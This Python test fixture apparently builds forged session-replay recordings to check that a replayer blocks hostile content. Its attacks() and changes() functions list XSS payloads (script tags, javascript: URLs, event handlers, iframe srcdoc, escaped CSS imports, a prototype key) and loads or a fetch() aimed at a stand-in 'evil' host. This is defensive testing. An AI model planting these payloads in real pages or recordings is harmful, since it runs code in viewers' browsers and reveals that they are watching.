"""Recordings that nobody's recorder made: each tries to run something, or to tell somebody that it is being watched."""

from .recordings import Json

NOW = 1_795_000_000_000
BODY, STYLE, IMAGE, LINK, DRAWING, TEXT = 6, 5, 7, 8, 9, 10
RUN = "top.ran = true"


def element(tag: str, node: int, attributes: Json | None = None, *children: Json, svg: bool = False) -> Json:
    found = {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": list(children), "id": node}
    return found | ({"isSVG": True} if svg else {})


def drawn(tag: str, node: int, attributes: Json | None = None, *children: Json) -> Json:
    return element(tag, node, attributes, *children, svg=True)


def text(value: str, node: int) -> Json:
    return {"type": 3, "textContent": value, "id": node}


def attacks(evil: str) -> dict[str, list[Json]]:
    """Return nodes that load from `evil` or call top.ran, by what they try."""
    return {
        "script": [element("script", 20, {}, text(RUN, 21)), element("script", 22, {"src": f"{evil}/script.js"})],
        "script in a drawing": [drawn("svg", 20, {}, drawn("script", 21, {}, text(RUN, 22)))],
        "image": [element("img", 20, {"src": f"{evil}/image.png", "onerror": RUN, "srcset": f"{evil}/set.png 2x"})],
        "image that fails": [element("img", 20, {"src": "data:image/png,x", "onerror": RUN})],
        "drawing": [drawn("svg", 20, {"onload": RUN}, drawn("image", 21, {"href": f"{evil}/image.png"}))],
        "use": [drawn("svg", 20, {}, drawn("use", 21, {"xlink:href": f"{evil}/use.svg#a"}))],
        "frame": [element("iframe", 20, {"src": f"{evil}/frame"})],
        "frame of markup": [element("iframe", 20, {"srcdoc": f"<script>{RUN}</script><img src='{evil}/frame.png'>"})],
        "frame of a script": [element("iframe", 20, {"src": f"javascript:{RUN}"})],
        "base": [element("base", 20, {"href": f"{evil}/"}), element("img", 21, {"src": "base.png"})],
        "refresh": [element("meta", 20, {"http-equiv": "refresh", "content": f"0;url={evil}/refresh"})],
        "links": [
            element("a", 20, {"href": f"javascript:{RUN}", "ping": f"{evil}/ping", "target": "_top"}, text("x", 21)),
            element("a", 22, {"href": f"{evil}/link", "target": "_top"}, text("x", 23)),
        ],
        "style sheets": _style_sheets(evil),
        "escaped style sheet": [
            element("style", 20, {}, text(f"@\\69mport '{evil}/c.css'; body {{background: u\\72l({evil}/c.png)}}", 21))
        ],
        "hints": _hints(evil),
        "styles": [
            element("p", 20, {"style": f"background: url({evil}/p.png)"}, text("x", 21)),
            element("table", 22, {"background": f"{evil}/q.png"}),
        ],
        "plug-ins": [
            element("object", 20, {"data": f"{evil}/object.html"}),
            element("embed", 21, {"src": f"{evil}/embed.html"}),
        ],
        "media": [
            element("video", 20, {"src": f"{evil}/a.mp4", "poster": f"{evil}/a.png", "rr_mediaState": "played"}),
            element("audio", 21, {"autoplay": ""}, element("source", 22, {"src": f"{evil}/audio.mp3"})),
        ],
        "form": [
            element(
                "form", 20, {"action": f"{evil}/form"}, element("input", 21, {"type": "image", "src": f"{evil}/i"})
            ),
            element("details", 22, {"open": "", "ontoggle": RUN}, element("p", 23, {}, text("x", 24))),
            element("input", 25, {"autofocus": "", "onfocus": RUN}),
        ],
        "images of the recorder": [
            element("canvas", 20, {"rr_dataURL": f"{evil}/canvas.png"}),
            element("img", 21, {"rr_dataURL": f"{evil}/inline.png"}),
        ],
        "animation": [drawn("svg", 20, {}, *_animations(evil))],
        "prototypes": [element("p", 20, {"__proto__": {"src": evil}, "constructor": RUN}, text("x", 21))],
    }


def _hints(evil: str) -> list[Json]:
    return [
        element("link", 20, {"rel": "prefetch", "href": f"{evil}/prefetch"}),
        element("link", 21, {"rel": "preload", "href": f"{evil}/preload.css", "as": "style"}),
        element("link", 22, {"rel": "modulepreload", "href": f"{evil}/module.js"}),
        element("link", 23, {"rel": "icon", "href": f"{evil}/icon.png"}),
        element("link", 24, {"rel": "manifest", "href": f"{evil}/manifest"}),
    ]


def _style_sheets(evil: str) -> list[Json]:
    return [
        element("link", 20, {"rel": "stylesheet", "href": f"{evil}/style.css"}),
        element("style", 21, {}, text(f"@import '{evil}/a.css'; body {{background: url({evil}/a.png)}}", 22)),
        element("style", 23, {"_cssText": f"@import url({evil}/b.css); p {{background: url({evil}/b.png)}}"}),
        element("link", 24, {"_cssText": f"@font-face {{font-family: x; src: url({evil}/x)}} * {{font-family: x}}"}),
    ]


def _animations(evil: str) -> list[Json]:
    to_script = {"attributeName": "href", "values": f"javascript:{RUN}"}
    return [
        drawn("a", 21, {}, drawn("animate", 22, to_script), drawn("text", 23, {"y": "20"}, text("x", 24))),
        drawn("image", 25, {}, drawn("set", 26, {"attributeName": "href", "to": f"{evil}/set.png"})),
    ]


def changes(evil: str) -> list[Json]:
    """Return what comes later: as text, attributes and rules of nodes that are there."""
    drawing = {"rr_type": "HTMLImageElement", "src": f"{evil}/canvas.png"}
    rules = [{"rule": f"p {{background: url({evil}/adopted.png)}}"}]
    return [
        _new_attributes(IMAGE, {"src": f"{evil}/src.png", "onerror": RUN, "onload": RUN}),
        _new_attributes(LINK, {"rel": "stylesheet", "href": f"{evil}/link.css"}),
        _new_attributes(LINK, {"_cssText": f"body {{background: url({evil}/link.png)}}"}),
        _new_attributes(BODY, {"style": {"background-image": f"url({evil}/style.png)"}}),
        _new_attributes(BODY, {"style": f"background-image: url({evil}/style.png)"}),
        _new_attributes(BODY, {"background": f"{evil}/body.png", "onpageshow": RUN}),
        _new_attributes(DRAWING, {"onload": RUN, "style": f"fill: url({evil}/drawing.svg#a)"}),
        _mutation("texts", {"id": TEXT, "value": f"@import '{evil}/text.css'; p {{background: url({evil}/text.png)}}"}),
        _new_node(BODY, element("script", 40, {}, text(RUN, 41))),
        _new_node(40, text(f"fetch('{evil}/script')", 42)),
        _new_node(BODY, element("iframe", 43, {"srcdoc": f"<img src={evil}/frame.png><script>{RUN}</script>"})),
        _new_attributes(43, {"src": f"{evil}/frame", "srcdoc": f"<script>{RUN}</script>"}),
        _change(8, id=STYLE, adds=[{"rule": f"p {{background: url({evil}/rule.png)}}", "index": 0}]),
        _change(8, id=STYLE, replaceSync=f"p {{background: url({evil}/sync.png)}}"),
        _change(13, id=STYLE, index=[0], set={"property": "background", "value": f"url({evil}/declared.png)"}),
        _change(15, id=1, styleIds=[1], styles=[{"styleId": 1, "rules": rules}]),
        _change(9, id=BODY, type=0, commands=[{"property": "drawImage", "args": [drawing]}]),
        _change(10, family="x", fontSource=f"url({evil}/font.woff)", buffer=False),
        _change(7, id=IMAGE, type=0),
        _change("constructor", id=BODY),
        {"type": 5, "data": {"tag": "x", "payload": RUN}},
        {"type": 6, "data": {"plugin": "rrweb/console@1", "payload": {"level": "log", "payload": [RUN]}}},
    ]


def _change(source: int | str, **about: object) -> Json:
    return {"type": 3, "data": {"source": source, **about}}


def _mutation(kind: str, one: Json) -> Json:
    return _change(0, **({"adds": [], "removes": [], "texts": [], "attributes": []} | {kind: [one]}))


def _new_attributes(node: int, attributes: Json) -> Json:
    return _mutation("attributes", {"id": node, "attributes": attributes})


def _new_node(parent: int, node: Json) -> Json:
    return _mutation("adds", {"parentId": parent, "nextId": None, "node": node})


def recording(forged: list[Json], later: list[Json]) -> list[Json]:
    """Return the events of a recording with these nodes in its page, and with what comes later."""
    head = element("head", 4, {}, element("style", STYLE, {}, text("p { color: red }", TEXT)), element("link", LINK))
    shown = [element("p", 30, {}, text("played", 31)), element("img", IMAGE), drawn("svg", DRAWING)]
    html = element("html", 3, {}, head, element("body", BODY, {}, *shown, *forged))
    page = {"type": 0, "id": 1, "childNodes": [{"type": 1, "id": 2, "name": "html", "publicId": ""}, html]}
    events: list[Json] = [
        {"type": 4, "data": {"href": "https://example.com/", "width": 1024, "height": 600}},
        {"type": 2, "data": {"node": page, "initialOffset": {"top": 0, "left": 0}}},
        *later,
        _change(1, positions=[{"x": 9, "y": 9, "id": BODY, "timeOffset": 0}]),
    ]
    return [event | {"timestamp": NOW + 100 * index} for index, event in enumerate(events)]
